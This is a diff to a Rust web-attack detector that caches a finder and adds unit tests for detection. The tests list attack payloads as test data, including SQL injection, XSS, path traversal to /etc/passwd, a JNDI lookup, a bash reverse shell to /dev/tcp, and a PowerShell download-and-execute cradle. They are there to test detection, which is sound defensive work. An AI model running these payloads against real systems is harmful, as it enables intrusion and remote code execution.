@@ -5,6 +5,7 @@ use super::gate::Gate;
 use super::normalise::{Normaliser, Undone};
 use super::rules::{self, Places, Rule};
 use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
+use memchr::memmem::Finder;
 use regex::bytes::{Regex, RegexBuilder};
 use smallvec::SmallVec;
 use std::sync::Arc;
@@ -93,6 +94,8 @@ pub(crate) struct Matcher {
     /// For each trigger, the rules that it makes worth trying, and whether it has to be a whole word.
     by_trigger: Arc<[(RuleSet, bool)]>,
     compiled: Vec<Compiled>,
+    /// Finds the version in the first line of a request.
+    version: Finder<'static>,
     normaliser: Normaliser,
     excerpt: Vec<u8>,
 }
@@ -110,7 +113,9 @@ pub enum RuleError {
     #[error("threat rule '{0}' does not compile: {1}; this is a defect, please report it")]
     Expression(&'static str, Box<regex::Error>),
     /// The triggers cannot be built.
-    #[error("the triggers of the threat rules do not compile: {0}; this is a defect, please report it")]
+    #[error(
+        "the triggers of the threat rules do not compile: {0}; this is a defect, please report it"
+    )]
     Triggers(#[from] Box<aho_corasick::BuildError>),
     /// There are more rules than a set holds.
     #[error("{0} threat rules are more than fit; this is a defect, please report it")]
@@ -174,6 +179,7 @@ impl Matcher {
             triggers,
             by_trigger: by_trigger.into(),
             compiled,
+            version: Finder::new(b" HTTP/"),
             normaliser: Normaliser::default(),
             excerpt: Vec::new(),
         })
@@ -205,7 +211,7 @@ impl Matcher {
     fn worth_a_look(&mut self, raw: &[u8], places: Places) -> bool {
         let request = places.meets(Places::SENT)
             || raw.first() == Some(&b'/')
-            || memchr::memmem::find(raw, b" HTTP/").is_some();
+            || self.version.find(raw).is_some();
         let gate = if request { &self.request_gate } else { &self.line_gate };
         if gate.opens(raw) {
             return true;
@@ -290,9 +296,8 @@ fn words_for(places: Places) -> impl Iterator<Item = &'static str> {
 
 /// Whether no letter stands before or behind.
 fn is_whole(text: &[u8], start: usize, end: usize) -> bool {
-    let letter = |at: Option<usize>| {
-        at.and_then(|at| text.get(at)).is_some_and(u8::is_ascii_alphabetic)
-    };
+    let letter =
+        |at: Option<usize>| at.and_then(|at| text.get(at)).is_some_and(u8::is_ascii_alphabetic);
     !letter(start.checked_sub(1)) && !letter(Some(end))
 }
 
@@ -351,55 +356,81 @@ impl Found {
 }
 
 #[cfg(test)]
-mod census {
+mod tests {
     use super::*;
+
+    /// The gate only saves work: what it keeps out holds no attack worth a class. Each is found both
+    /// ways, in each place that its rule holds for.
     #[test]
-    fn census() {
-        let Ok(files) = std::env::var("CENSUS") else { return };
-        let mut m = Matcher::new().unwrap();
-        let mut tried: std::collections::BTreeMap<&str, usize> = Default::default();
-        for (label, place) in [("http-params", Places::LINE)] {
-            let t = std::fs::read("/tmp/attacks.txt").unwrap();
-            let t = String::from_utf8_lossy(&t).into_owned();
-            let (mut lost, mut n) = (0, 0);
-            for line in t.lines() {
-                let v = m.inspect_closely(line.as_bytes(), place);
-                if v.is_some_and(|v| v.best().is_some_and(|b| b.1 >= 0.5)) {
-                    n += 1;
-                    if !m.worth_a_look(line.as_bytes(), place) { lost += 1; println!("LOST {line}"); }
-                }
+    fn the_gate_opens_for_attacks() {
+        let mut matcher = Matcher::new().unwrap();
+        for text in [
+            "1' or '1'='1",
+            "-5 union select 1,2,3",
+            "1) and sleep(5)#",
+            "1;drop table users--",
+            "<script>alert(1)</script>",
+            "%3Cimg src=x onerror=alert(1)%3E",
+            "javascript:alert(1)",
+            ";cat /etc/passwd",
+            "|id",
+            "$(whoami)",
+            "`id`",
+            "../../../../etc/passwd",
+            "..%2f..%2f..%2fwindows%2fwin.ini",
+            "%252e%252e%252f%252e%252e%252fetc/passwd",
+            "${jndi:ldap://x/a}",
+            "<?php phpinfo(); ?>",
+            "() { :;}; /bin/bash -c id",
+            "sqlmap/1.7#stable",
+            "a\0b",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        ] {
+            for places in [Places::LINE, Places::REQUEST, Places::AGENT] {
+                let whole = matcher.inspect_closely(text.as_bytes(), places);
+                let gated = matcher.inspect(text.as_bytes(), places);
+                assert_eq!(whole, gated, "{text}");
+                let class = gated.and_then(|verdict| verdict.best());
+                assert!(class.is_some_and(|(_, strength)| strength >= 0.5), "{text} {places:?}");
             }
-            println!("LOSTSUM {label} {lost}/{n}");
         }
-        for file in files.split(' ') {
-            let text = String::from_utf8_lossy(&std::fs::read(file).unwrap()).into_owned();
-            let (mut open, mut n) = (0, 0);
-            let mut why: std::collections::BTreeMap<String, (usize, String)> = Default::default();
-            for line in text.lines() {
-                n += 1;
-                if m.worth_a_look(line.as_bytes(), Places::LINE) {
-                    open += 1;
-                    for w in m.line_gate.why(line.as_bytes()) {
-                        let e = why.entry(w).or_insert((0, line.chars().take(140).collect()));
-                        e.0 += 1;
-                    }
-                    m.normaliser.run(line.as_bytes());
-                    let mut c: RuleSet = [0; SET];
-                    for f in m.triggers.find_overlapping_iter(&m.normaliser.text) {
-                        for (a, b) in c.iter_mut().zip(&m.by_trigger[f.pattern().as_usize()].0) { *a |= b; }
-                    }
-                    for (i, r) in m.compiled.iter().enumerate() {
-                        if c[i / 64] >> (i % 64) & 1 == 1 && r.expression.is_some() && r.rule.places.meets(Places::LINE) { *tried.entry(r.rule.reason).or_default() += 1; }
-                    }
-                }
+    }
+
+    #[test]
+    fn harmless_texts_have_no_class() {
+        let mut matcher = Matcher::new().unwrap();
+        for text in [
+            "The union of workers selected a new chair; drop by at table 5 or call 1-800",
+            "user O'Brien said \"hello\" and left",
+            "SELECT your seat & update your profile",
+            "Connection from 10.0.0.1 (port 22) closed - status=0x1F",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
+            "/products?category=shoes&sort=price&order=asc&page=2",
+            "https://example.com/search?q=cats+and+dogs",
+            "{\"event\":\"login\",\"ok\":true,\"id\":42}",
+            "Jan 1 00:00:01 host CRON[1]: (root) CMD (/usr/lib/sysstat/sa1 1 1)",
+            "C:\\Windows\\System32\\svchost.exe -k netsvcs -p",
+        ] {
+            for places in [Places::LINE, Places::REQUEST, Places::AGENT, Places::COMMAND] {
+                let verdict = matcher.inspect_closely(text.as_bytes(), places);
+                let strength = verdict.as_ref().and_then(Verdict::best).map_or(0.0, |best| best.1);
+                let reasons: Vec<_> = verdict
+                    .iter()
+                    .flat_map(|v| v.rules.iter().map(|id| matcher.describe(*id).1))
+                    .collect();
+                assert!(strength < 0.5, "{text} {places:?} {reasons:?}");
             }
-            println!("{file}: {open}/{n} open");
-            let mut w: Vec<_> = why.into_iter().collect();
-            w.sort_by_key(|w| std::cmp::Reverse(w.1.0));
-            for (k, (c, l)) in w.into_iter().take(12) { println!("    {c} {k}    {l}"); }
         }
-        let mut t: Vec<_> = tried.into_iter().collect();
-        t.sort_by_key(|t| std::cmp::Reverse(t.1));
-        for (r, c) in t.into_iter().take(25) { println!("{c} {r}"); }
+    }
+
+    #[test]
+    fn a_command_line_is_no_injection() {
+        let mut matcher = Matcher::new().unwrap();
+        let ordinary = "cmd.exe /c ping -n 5 127.0.0.1 & dir c:\\ | find \"x\" && whoami";
+        assert_eq!(matcher.inspect(ordinary.as_bytes(), Places::COMMAND), None);
+        let cradle =
+            "powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://x/a')";
+        let verdict = matcher.inspect(cradle.as_bytes(), Places::COMMAND).unwrap();
+        assert_eq!(verdict.best().unwrap().0, Class::Cmdi);
     }
 }
